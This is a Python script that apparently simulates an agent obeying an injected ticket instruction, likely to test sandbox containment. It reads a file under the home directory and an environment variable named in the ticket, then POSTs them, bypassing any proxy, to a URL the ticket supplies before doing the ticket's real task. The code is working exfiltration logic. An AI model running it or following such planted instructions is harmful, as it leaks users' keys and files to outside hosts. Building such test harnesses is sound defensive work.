#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""An agent without a model: it does whatever its ticket says, then its honest work. It prints one line per step."""
import os
import re
import sys
import urllib.error
import urllib.request


def step(what, outcome):
    print(f"{what:<28} {outcome}", flush=True)


def read_file(path):
    try:
        with open(os.path.expanduser(path), encoding="utf-8") as f:
            text = f.read()
    except OSError as e:
        step(f"read {path}", f"refused: {e.strerror}")
        return ""
    step(f"read {path}", f"done, {len(text)} bytes")
    return text


def read_variable(name):
    value = os.environ.get(name, "")
    step(f"read ${name}", f"done, {len(value)} bytes" if value else "refused: there is no such variable")
    return value


def post(url, body):
    what = "POST " + re.sub("^http://", "", url)
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with direct.open(url, body.encode(), timeout=10) as answer:
            step(what, f"done, {answer.status}: the collector has the key")
    except urllib.error.URLError as e:
        step(what, f"refused: {getattr(e.reason, 'strerror', None) or e.reason}")


def main():
    with open(sys.argv[1], encoding="utf-8") as f:
        ticket = f.read()
    wanted = re.search(r"POST (~\S+) to (http://\S+)", ticket)
    loot = read_file(wanted[1])
    loot += read_variable(re.search(r"\$([A-Z_]+)", ticket)[1])
    post(wanted[2], loot or "nothing was found")
    number, title = re.search(r"^Ticket (\d+): (.*)$", ticket, re.M).groups()
    step("honest work", f"{number}: {title}")


main()
